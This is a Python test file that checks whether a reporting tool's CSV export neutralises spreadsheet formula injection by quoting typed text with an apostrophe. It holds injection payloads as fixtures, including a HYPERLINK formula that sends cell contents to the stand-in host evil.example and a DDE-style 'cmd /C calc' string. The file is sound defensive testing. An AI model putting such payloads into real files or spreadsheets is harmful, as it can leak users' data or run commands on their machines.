"""The CSV tables of the report never hand a spreadsheet a formula: texts people typed that start one are quoted.

A trainee's name, a team's name, an action's text, an observation or a plan entry
starting with = + - @, a tab or a carriage return gets a leading apostrophe (as the
MSEL CSV does), while numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import copy
import csv
import io
import zipfile

import pytest

from debrief import report_document
from debrief.exports import write
from tests.debrief_helpers import WATER, meta, team_run

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def poisoned() -> dict:
    """A report whose every kind of typed text starts a formula, and a negative number among its values."""
    document = copy.deepcopy(report_document(meta(WATER), [team_run(WATER, "silent")]))
    team = document["teams"][0]
    team["team"] = ATTACK
    team["by_trainee"][0]["name"] = ATTACK
    team["timeline"][0]["summary"] = {"vi": "@SUM(A1)", "en": "-2+3"}
    team["final_belief"] = -0.5
    item = document["improvement_plan"]["items"][0]
    item.update(issue="+cmd|' /C calc'!A0", corrective_action="\t=1", role="\r=1")
    return document


def tables_of(document: dict) -> dict[str, list[list[str]]]:
    stream = io.BytesIO()
    write(document, "csv", stream)
    with zipfile.ZipFile(stream) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))
            for name in archive.namelist()
        }


def test_no_cell_of_any_table_starts_a_formula(poisoned):
    cells = [cell for rows in tables_of(poisoned).values() for row in rows for cell in row]
    assert f"'{ATTACK}" in cells  # the texts are there, quoted
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not _is_number(cell)]


@pytest.mark.parametrize(
    "table, column, expected",
    [
        ("trainees.csv", "trainee", f"'{ATTACK}"),
        ("timeline.csv", "summary_vi", "'@SUM(A1)"),
        ("timeline.csv", "summary_en", "'-2+3"),
        ("improvement_plan.csv", "issue", "'+cmd|' /C calc'!A0"),
        ("improvement_plan.csv", "corrective_action", "'\t=1"),
        ("improvement_plan.csv", "role", "'\r=1"),
        ("teams.csv", "team", f"'{ATTACK}"),
    ],
    ids=["trainee", "summary_vi", "summary_en", "plan-issue", "plan-action", "plan-role", "team"],
)
def test_each_typed_text_is_quoted_with_an_apostrophe(poisoned, table, column, expected):
    header, first, *_ = tables_of(poisoned)[table]
    assert first[header.index(column)] == expected


def test_a_negative_number_stays_a_number(poisoned):
    header, first, *_ = tables_of(poisoned)["teams.csv"]
    assert first[header.index("final_belief")] == "-0.5"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
